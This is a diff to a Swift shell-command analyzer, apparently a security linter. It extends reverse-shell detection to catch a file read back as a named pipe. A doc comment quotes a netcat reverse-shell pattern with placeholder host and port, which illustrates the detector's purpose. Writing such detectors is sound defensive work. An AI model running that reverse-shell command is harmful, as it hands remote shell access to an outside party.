@@ -196,12 +196,30 @@ enum ReverseShell: Family {
   }
 
   /// At the end of a command: a shell, a pipe file and a network program together are one wire.
-  static func judgeWhole(_ context: inout Judgement) {
+  static func judgeWhole(_ meaning: Meaning, _ context: inout Judgement) {
     guard context.memory.hasNetworkPipe, let range = context.memory.openShells.first,
-      context.memory.hasPipeFile || context.memory.pipesThroughShell
+      context.memory.hasPipeFile || context.memory.pipesThroughShell || readsBack(meaning)
     else { return }
     context.category = category
     context.report(shell, on: "a network program", at: range)
+  }
+
+  /// `sh < /tmp/f | nc HOST PORT > /tmp/f`: a file does what a named pipe does.
+  private static func readsBack(_ meaning: Meaning) -> Bool {
+    var read: [String] = []
+    for invocation in meaning.invocations.prefix(64) {
+      for redirect in invocation.redirects {
+        guard let path = redirect.target.known, path != "/dev/null" else { continue }
+        if redirect.kind == .read, redirect.descriptor == 0 {
+          read.append(path)
+        } else if redirect.kind == .write || redirect.kind == .append, read.contains(path),
+          FamilyIndex.traits(of: invocation.canonicalName).contains(.wire)
+        {
+          return true
+        }
+      }
+    }
+    return false
   }
 
   static func report(_ invocation: Invocation, _ context: inout Judgement) {
